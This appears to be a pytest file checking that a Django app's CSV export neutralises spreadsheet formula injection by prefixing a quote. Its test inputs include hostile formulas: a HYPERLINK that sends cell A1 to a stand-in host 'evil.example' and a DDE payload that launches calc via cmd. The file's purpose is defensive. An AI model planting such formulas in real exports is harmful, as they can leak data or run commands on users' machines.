"""CSV exports never hand a spreadsheet a formula (issue 9, item 5)."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from involvement.csv_export import safe_cell, writer
from opportunities.tests.factories import ActivityTypeFactory, OpportunityFactory


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example","Click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-3",  # text that looks like a number is still text, and still quoted
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Interview panel", "a=b", "Fee: -£5", "", "fewer than 5"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, -0.5, Decimal("-12.50"), 0, 42, 0.375])
def test_numbers_stay_numbers_even_when_negative(number):
    # Written by the csv module as digits, a number cannot be a formula; quoting it would
    # turn a figure into text nobody can add up.
    assert safe_cell(number) == number


def test_the_writer_quotes_every_cell_of_every_row_and_leaves_none_empty():
    out = io.StringIO()
    w = writer(out)
    w.writerow(["=1+1", -4, None])
    w.writerows([["@x", 2.5], ["plain", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-4", ""], ["'@x", "2.5"], ["plain", "-1.5"]]


@pytest.mark.django_db
def test_the_dashboard_export_neutralises_a_formula_typed_into_reference_data(client, manager):
    hostile = ActivityTypeFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
    starts = datetime(2026, 3, 10, 10, tzinfo=UTC)
    OpportunityFactory(activity_type=hostile, sessions=[(starts, starts.replace(hour=12))])
    client.force_login(manager)

    response = client.get(
        "/dashboard/export/activity_by_type.csv",
        {
            "period": "custom",
            "start_day": "1",
            "start_month": "1",
            "start_year": "2026",
            "end_day": "30",
            "end_month": "6",
            "end_year": "2026",
        },
    )

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + hostile.name in cells
    assert hostile.name not in cells
